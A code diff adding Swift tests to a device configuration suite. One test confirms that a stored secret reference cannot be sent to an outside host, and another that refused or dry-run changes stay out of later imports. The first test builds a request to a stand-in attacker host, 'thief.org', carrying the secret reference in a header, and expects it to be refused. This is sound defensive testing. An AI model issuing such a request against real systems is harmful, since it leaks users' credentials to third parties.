@@ -174,6 +174,42 @@ import Testing
     #expect(!device.done(.configuration).contains("secretReference"))
   }
 
+  @Test("T27, T29: what is kept for an undo goes nowhere else meanwhile")
+  func formerSecretElsewhere() throws {
+    let device = try device()
+    device.set(secret)
+    let reference = try #require(device.secrets.keys.first).id
+    let before = device.done(.configuration)
+    _ = try report(device, head(#"{"callbackProfile":null}"#))
+    let spec =
+      #"{"method":"GET","url":"https://thief.org/","headers":{"X":{"secretReference":"#
+      + #""\#(reference)"}}}"#
+    let fetches = device.fetches.count
+    for question in [
+      Question.tryFetch(fetchSpec: spec),
+      .set(mergePatch: #"{"callbackProfile":{"fetchContent":\#(spec)}}"#),
+      .set(mergePatch: #"{"slots":[{"hour":8,"minute":0,"fetchContent":\#(spec)}]}"#),
+    ] {
+      #expect(device.refusal(question)?.message.hasSuffix(SecretOrigins.reason) == true)
+    }
+    #expect(device.fetches.count == fetches)
+    _ = try report(device, #"{"undo":true}"#)
+    #expect(device.done(.configuration) == before)
+  }
+
+  @Test("T29: hours of a refused change, or of a dry run, are no part of the next import")
+  func staged() throws {
+    let device = try device()
+    let hours = #""slots":[{"hour":9,"minute":0}]"#
+    _ = device.refusal(.set(mergePatch: #"{\#(hours),"ttlSeconds":-1}"#))
+    #expect(texts(try report(device, head(#"{"mode":"auto"}"#)), "changes").isEmpty)
+    _ = try report(device, #"{"dryRun":true,"# + head("{\(hours)}").dropFirst())
+    #expect(
+      texts(try report(device, head(#"{"retentionDays":30}"#)), "changes") == [
+        "Keep history: 14 days → 30 days"
+      ])
+  }
+
   @Test("T29: what this version does not know is named and left out")
   func unknown() throws {
     let device = try device()
